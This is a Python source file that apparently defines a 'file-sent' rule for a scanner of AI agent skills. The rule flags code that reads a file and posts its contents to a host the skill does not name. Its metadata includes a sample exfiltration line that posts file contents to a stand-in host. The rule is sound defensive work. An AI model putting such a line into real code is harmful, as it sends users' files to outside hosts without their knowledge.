"""A file that is read is sent."""

from collections.abc import Iterator

from clawft.scan.facts import Fact, Kind
from clawft.scan.ownership import is_foreign
from clawft.scan.rule import Hit, Rule
from clawft.scan.subject import Subject
from clawft.scan.vocabulary.hosts import host_of
from clawft.scan.vocabulary.secrets import find_secret_path

__all__ = ["RULE"]


def check_file_sent(subject: Subject) -> Iterator[Hit]:
    for sink in subject.of(Kind.SEND):
        if is_foreign(subject, sink.target) and any(_is_plain(one) for one in subject.trace(sink)):
            yield Hit(sink, f"A file is read and sent to {host_of(sink.target)}", 0.6)


def _is_plain(fact: Fact) -> bool:
    """Whether a file is read that holds no secret: other rules object to those."""
    return fact.kind is Kind.READ and not find_secret_path(fact.target)


RULE = Rule(
    id="file-sent",
    title="A file is sent to a host that the skill does not speak of",
    severity="medium",
    category="exfiltration",
    what="What was read from a file goes to a host that is neither well known nor named by the skill.",
    why="It may be the purpose of the skill: uploading is. The user should know where to.",
    example='requests.post("https://up.example.net", data=open("notes.txt").read())',
    counter_example='requests.post("http://localhost:8000", data=open("notes.txt").read())',
    fix="Name the service in the description.",
    check=check_file_sent,
    owasp="AST04",
    atlas="AML.T0025",
    aliases=("potential-exfiltration",),
)
